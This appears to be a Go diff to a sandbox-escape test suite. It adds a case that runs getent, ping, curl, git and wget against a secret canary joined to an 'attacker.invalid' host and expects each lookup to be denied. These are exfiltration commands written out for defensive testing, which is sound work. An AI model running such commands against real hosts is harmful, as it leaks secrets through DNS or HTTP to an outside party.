@@ -1,9 +1,16 @@
 package attack
 
 import (
+	"cmp"
+	"context"
 	"fmt"
 	"net/http"
 	"os"
+	"os/exec"
+	"strings"
+	"time"
+
+	"github.com/bot-bottle/action/internal/guest/probe"
 )
 
 func nameCases() []Case {
@@ -28,6 +35,8 @@ func nameCases() []Case {
 			Rules: []string{"address-refused"}, Twin: "a listed name that leads where it may is reached", run: privateNames, twin: resolvedTwin},
 		{ID: "D13", Title: "hosts, resolv.conf and nsswitch.conf written anew in the guest", Class: Names, Tier: Full, Layer: "the door resolves on the host",
 			Twin: "the listed host is still the real one", run: rewriteNames, twin: listed},
+		{ID: "D14", Title: "ping, getent, curl and git with a secret in the name, where the image has them", Class: Names, Tier: Quick, Layer: "no resolver in the guest",
+			Rules: []string{"no-route"}, Twin: door, run: nameTools, twin: answers},
 	}
 }
 
@@ -39,6 +48,33 @@ func resolveSecret(p *prober) []Try {
 		call("resolve host.docker.internal", WantDenied, func() error { return resolve("host.docker.internal") }),
 		call("resolve host.smolvm.internal", WantDenied, func() error { return resolve("host.smolvm.internal") }),
 	}
+}
+
+// toolTime is how long a tool may take: it is started in the guest, which can be
+// slow, and fails at once when it runs.
+const toolTime = 10 * time.Second
+
+// nameTools has real clients look names up, if the image has them.
+func nameTools(p *prober) []Try {
+	name := p.canary + ".attacker.invalid"
+	var tries []Try
+	for _, argv := range [][]string{
+		{"getent", "hosts", name}, {"ping", "-c1", "-W1", name}, {"curl", "-sS", "--noproxy", "*", "http://" + name}, {"curl", "-sSf", "http://" + name},
+		{"git", "ls-remote", "git://" + name + "/x"}, {"wget", "-q", "-O-", "http://" + name},
+	} {
+		path, err := exec.LookPath(argv[0])
+		if err != nil {
+			tries = append(tries, Try{Name: argv[0], Want: WantDenied, Outcome: probe.Refused, Detail: "the image doesn't have it"})
+			continue
+		}
+		tries = append(tries, call(strings.Join(argv[:len(argv)-1], " "), WantDenied, func() error {
+			ctx, cancel := context.WithTimeout(context.Background(), toolTime)
+			defer cancel()
+			err := exec.CommandContext(ctx, path, argv[1:]...).Run()
+			return cmp.Or(ctx.Err(), err)
+		}))
+	}
+	return tries
 }
 
 func askSecretName(p *prober) []Try {
